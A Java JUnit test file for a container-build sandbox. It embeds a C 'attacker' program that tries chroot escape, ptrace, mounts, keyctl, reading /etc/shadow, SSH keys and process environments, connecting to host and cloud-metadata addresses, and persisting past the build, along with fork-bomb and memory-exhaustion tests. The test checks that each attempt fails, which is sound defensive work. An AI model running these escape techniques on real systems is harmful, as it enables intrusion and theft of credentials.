package co.caution.build;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A Containerfile that means harm. */
class SandboxTest {

    @TempDir
    Path directory;

    private final Recorder recorder = new Recorder();

    @BeforeEach
    void theMachineCanBuild() {
        ContainerBuilds.assumePossible();
    }

    @AfterEach
    void nothingIsLeft() throws IOException {
        Path work = ContainerBuilds.home().directory().resolve("work");
        assertThat(ContainerBuilds.processesNaming(work)).isEmpty();
        assertThat(ContainerBuilds.processesNaming(directory)).as("what attackers left running").isEmpty();
        assertThat(Files.readString(Path.of("/proc/self/mounts"))).doesNotContain(work.toString());
        assertThat(work).isEmptyDirectory();
    }

    private void build(TestSource source, BuildLimits limits, BuildListener listener) throws Exception {
        new Pipeline(ContainerBuilds.home(), TestEnclaveOs.in(directory.resolve("os")), limits)
                .build(source.repository, source.commit(), directory.resolve("stage"), listener);
    }

    /** Runs a C program in RUN, as the image's root. */
    private TestSource program(String code, List<String> arguments) throws IOException {
        return ContainerBuilds.source("""
                FROM localhost/packages/toolchain AS build
                COPY x.c /x.c
                RUN gcc-12 -std=gnu17 -D_GNU_SOURCE -static -o /app /x.c && SERVICE_SOCKET=%s /app %s
                FROM scratch
                COPY --from=build /app /app
                """.formatted(directory.resolve("s"), String.join(" ", arguments))).file("x.c", code);
    }

    @Test
    void itSeesNoProcessNoListenerAndNoFileOfThisMachine() throws Exception {
        attack(List.of("10.0.2.2"), "build: docker build .\nrun: /app\n");
    }

    @Test
    void withTheNetworkItStillReachesNothingOfThisMachine() throws Exception {
        assumeTrue(
                ImageBuilder.onPath("slirp4netns") && ImageBuilder.onPath("ip"),
                "not run, this machine lacks slirp4netns or ip (apt-get install slirp4netns iproute2)");
        attack(List.of("10.0.2.2", "169.254.169.254", "192.168.1.1", "10.1.2.3"),
                "build: docker build .\nrun: /app\nbuild_network: on\n");
    }

    /** @param addresses to try beside those of this machine */
    private void attack(List<String> addresses, String procfile) throws Exception {
        Path secret = Files.writeString(directory.resolve("secret"), "the service's secret");
        try (var listener = new ServerSocket(0, 50, InetAddress.getByName("0.0.0.0"));
                var socket = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            socket.bind(UnixDomainSocketAddress.of(directory.resolve("s"))).configureBlocking(false);
            var arguments = new ArrayList<>(List.of(
                    secret.toAbsolutePath().toString(),
                    ContainerBuilds.home().directory().toString(),
                    String.valueOf(listener.getLocalPort()),
                    String.valueOf(ProcessHandle.current().pid()),
                    "127.0.0.1"));
            arguments.addAll(addresses);
            NetworkInterface.networkInterfaces()
                    .flatMap(NetworkInterface::inetAddresses)
                    .filter(address -> address instanceof Inet4Address)
                    .forEach(address -> arguments.add(address.getHostAddress()));

            build(program(ATTACKER, arguments).file("Procfile", procfile), BuildLimits.defaults(), recorder);

            requireNothingFound(listener, socket);
        }
    }

    private void requireNothingFound(ServerSocket listener, ServerSocketChannel socket) throws IOException {
        assertThat(recorder.lines).contains("attacker: done", "attacker: paints").noneMatch(line -> line.contains("\u001b"));
        assertThat(recorder.lines.stream().filter(line -> line.startsWith("attacker: ")))
                .as("what the attacker found")
                .allMatch(line -> line.matches("attacker: (done|paints|sees process .*)"))
                .noneMatch(line -> line.contains("java"));
        assertThat(socket.accept()).isNull();
        listener.setSoTimeout(1);
        assertThatThrownBy(listener::accept).isInstanceOf(SocketTimeoutException.class);
    }

    @Test
    void aBuildThatDoesNotEndIsStopped() throws Exception {
        TestSource source = ContainerBuilds.source("""
                FROM localhost/packages/toolchain
                RUN while :; do :; done
                """);
        long start = System.nanoTime();

        assertThatThrownBy(() -> build(source, BuildLimits.defaults().with(Duration.ofSeconds(4), null, null, null, null), recorder))
                .isInstanceOf(BuildException.class)
                .hasMessageContaining("did not end within 4 s");
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(120));
    }

    @Test
    void aBuildThatPrintsWithoutEndIsStopped() throws Exception {
        TestSource source = ContainerBuilds.source("""
                FROM localhost/packages/toolchain
                RUN while :; do echo spam; done
                """);

        assertThatThrownBy(() -> build(source, BuildLimits.defaults().withLog(new Size(100 << 10)), recorder))
                .isInstanceOf(BuildException.class)
                .hasMessageContaining("printed more than 100 KiB");
    }

    @Test
    void aBuildThatForksWithoutEndMeetsTheLimit() throws Exception {
        var limits = BuildLimits.defaults();
        build(
                program(
                        """
                        #include <stdio.h>
                        #include <unistd.h>
                        int main(void) {
                            int n = 0;
                            for (;; n++) {
                                pid_t child = fork();
                                if (child < 0) break;
                                if (child == 0) { pause(); _exit(0); }
                            }
                            printf("forked %d\\n", n);
                            fflush(stdout);
                            return 0; /* the children are left to the sandbox */
                        }
                        """,
                        List.of()),
                limits.with(null, null, 200, null, null),
                recorder);

        assertThat(recorder.lines).anyMatch(line -> line.matches("forked 1?[0-9]{1,2}"));
    }

    @Test
    void aBuildThatUsesMoreMemoryThanItMayIsToldSo() throws Exception {
        TestSource source = program(
                """
                #include <stdlib.h>
                #include <string.h>
                #include <unistd.h>
                int main(void) { if (fork()) return 0; for (;;) memset(malloc(1 << 20), 1, 1 << 20); }
                """,
                List.of()).file("Containerfile", """
                FROM localhost/packages/toolchain
                COPY x.c /x.c
                RUN gcc-12 -static -o /app /x.c
                RUN /app; while :; do :; done
                """);

        assertThatThrownBy(() -> build(source, BuildLimits.defaults().with(null, Size.of("256MiB"), null, null, null), recorder))
                .isInstanceOf(BuildException.class)
                .hasMessage("the build used more than 256 MiB of memory and was stopped; use less, or raise caution.build.memory"
                        + " (of caution build and verify: --build-memory)");
    }

    @Test
    void anInterruptEndsTheBuildAndAllOfIt() throws Exception {
        TestSource source = ContainerBuilds.source("""
                FROM localhost/packages/toolchain
                RUN echo begun; while :; do :; done
                """);
        var begun = new CountDownLatch(1);
        var thrown = new AtomicReference<Throwable>();
        var listener = new Recorder() {
            @Override
            public void line(String text) {
                if (text.equals("begun")) {
                    begun.countDown();
                }
            }
        };
        Thread builder = Thread.ofPlatform().start(() -> {
            try {
                build(source, BuildLimits.defaults(), listener);
            } catch (Throwable e) {
                thrown.set(e);
            }
        });
        begun.await();

        builder.interrupt();
        builder.join(Duration.ofSeconds(20));

        assertThat(thrown.get()).isInstanceOf(InterruptedException.class);
    }

    /** Says what it finds, each in a line that begins with "attacker: ". */
    private static final String ATTACKER = """
            #include <arpa/inet.h>
            #include <dirent.h>
            #include <errno.h>
            #include <fcntl.h>
            #include <signal.h>
            #include <stdio.h>
            #include <stdlib.h>
            #include <string.h>
            #include <sched.h>
            #include <sys/mount.h>
            #include <sys/ptrace.h>
            #include <sys/socket.h>
            #include <sys/stat.h>
            #include <sys/syscall.h>
            #include <sys/sysmacros.h>
            #include <sys/time.h>
            #include <sys/un.h>
            #include <sys/wait.h>
            #include <unistd.h>

            static void look(const char *path)
            {
                struct stat s;
                if (stat(path, &s) == 0)
                    printf("attacker: sees %s\\n", path);
                if (errno == EACCES)
                    printf("attacker: knows of %s\\n", path);
            }

            static void connect_to(const char *address, int port)
            {
                struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
                struct timeval limit = {.tv_sec = 2};
                int fd = socket(AF_INET, SOCK_STREAM, 0);
                inet_pton(AF_INET, address, &to.sin_addr);
                setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
                if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0)
                    printf("attacker: connected to %s\\n", address);
                close(fd);
            }

            static void connect_to_socket(const char *path)
            {
                struct sockaddr_un to = {.sun_family = AF_UNIX};
                int fd = socket(AF_UNIX, SOCK_STREAM, 0);
                snprintf(to.sun_path, sizeof to.sun_path, "%s", path);
                if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0)
                    printf("attacker: connected to %s\\n", path);
                close(fd);
            }

            static void run(const char *what, const char *program)
            {
                int status = -1;
                pid_t child = fork();
                if (child == 0) {
                    execl(program, program, "-n", "-c", "true", (char *)NULL);
                    _exit(126);
                }
                waitpid(child, &status, 0);
                if (status == 0)
                    printf("attacker: %s\\n", what);
            }

            /* Leaves its session and its parents, hears no signal that can be ignored, writes for ever. */
            static void outlive(void)
            {
                if (fork()) return;
                setsid();
                if (fork()) _exit(0);
                for (int i = 1; i < 32; i++) signal(i, SIG_IGN);
                close(0); close(1); close(2);
                for (;;) { close(open("/tmp/alive", O_CREAT | O_WRONLY, 0600)); usleep(10000); }
            }

            int main(int argc, char **argv)
            {
                (void)argc;
                outlive();
                printf("\\033[2J\\033]0;owned\\007\\033[31mattacker: paints\\033[0m\\b\\b\\n");
                FILE *sockets = fopen("/proc/net/unix", "r");
                for (char line[512]; sockets && fgets(line, sizeof line, sockets);)
                    if (strchr(line, '@'))
                        printf("attacker: sees socket %s", line);
                connect_to_socket(getenv("SERVICE_SOCKET"));
                for (int pid = 1; pid < 20; pid++) { /* before the builder come the sandbox's own, not to be seen */
                    char path[64];
                    snprintf(path, sizeof path, "/proc/%d", pid);
                    if (access(path, F_OK) != 0 && ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0)
                        printf("attacker: traces process %d\\n", pid);
                }
                if (unshare(CLONE_NEWUSER) == 0)
                    printf("attacker: makes a namespace\\n");
                if (mount("tmpfs", "/tmp", "tmpfs", 0, NULL) == 0)
                    printf("attacker: mounts a file system in memory\\n");
                if (mount("proc", "/proc", "proc", 0, NULL) == 0)
                    printf("attacker: mounts proc\\n");
                /* keyctl(2): KEYCTL_SEARCH in the session keyring */
                if (syscall(SYS_keyctl, 10, -3, "user", "caution-test", 0) > 0)
                    printf("attacker: finds a key\\n");
                if (syscall(SYS_bpf, 0, NULL, 0) == 0 || syscall(SYS_kexec_load, 0, 0, NULL, 0) == 0)
                    printf("attacker: loads programs into the kernel\\n");
                if (sethostname("owned", 5) == 0)
                    printf("attacker: renames the machine\\n");
                DIR *proc = opendir("/proc");
                for (struct dirent *e; proc && (e = readdir(proc));) {
                    char path[512], text[4096];
                    if (e->d_name[0] < '0' || e->d_name[0] > '9')
                        continue;
                    snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
                    int fd = open(path, O_RDONLY);
                    int n = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
                    for (int i = 0; i < n; i++) if (!text[i]) text[i] = ' ';
                    text[n < 0 ? 0 : n] = 0;
                    printf("attacker: sees process %s %s\\n", e->d_name, text);
                }
                if (open("/proc/1/environ", O_RDONLY) >= 0)
                    printf("attacker: reads the environment of process 1\\n");
                if (kill(atoi(argv[4]), 0) == 0 || (errno == EPERM && atoi(argv[4]) > 300))
                    printf("attacker: may signal %s\\n", argv[4]);
                for (int i = 5; argv[i]; i++)
                    connect_to(argv[i], atoi(argv[3]));
                if (mknod("/disk", S_IFBLK | 0600, makedev(254, 0)) == 0)
                    printf("attacker: made a disk\\n");
                if (open("/proc/sysrq-trigger", O_WRONLY) >= 0)
                    printf("attacker: reaches sysrq\\n");
                if (open("/proc/sys/kernel/core_pattern", O_WRONLY) >= 0)
                    printf("attacker: sets the core pattern\\n");
                if (mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
                    printf("attacker: remounts\\n");
                look(argv[1]);
                look(argv[2]);
                /* The old way out of a chroot. */
                mkdir("/hole", 0700);
                int here = open("/", O_RDONLY);
                if (chroot("/hole") == 0 && fchdir(here) == 0) {
                    for (int i = 0; i < 64; i++)
                        if (chdir("..")) break;
                    if (chroot(".") == 0) {
                        look(argv[1]);
                        look(argv[2]);
                        look("/root/.ssh");
                        look("/old");
                        look("/etc/shadow");
                        run("becomes another by su", "/usr/bin/su");
                        run("becomes another by sudo", "/usr/bin/sudo");
                        connect_to_socket(getenv("SERVICE_SOCKET"));
                        if (open("/caution/sandbox.sh", O_WRONLY) >= 0)
                            printf("attacker: writes to the sandbox itself\\n");
                        if (open("/bases/written", O_CREAT | O_WRONLY, 0600) >= 0)
                            printf("attacker: writes to the bases\\n");
                        if (open("/written", O_CREAT | O_WRONLY, 0600) >= 0)
                            printf("attacker: writes to the root\\n");
                        if (open("/usr/written", O_CREAT | O_WRONLY, 0600) >= 0)
                            printf("attacker: writes to /usr\\n");
                        if (open("/source/written", O_CREAT | O_WRONLY, 0600) >= 0)
                            printf("attacker: writes to the source\\n");
                    }
                }
                printf("attacker: done\\n");
                return 0;
            }
            """;
}
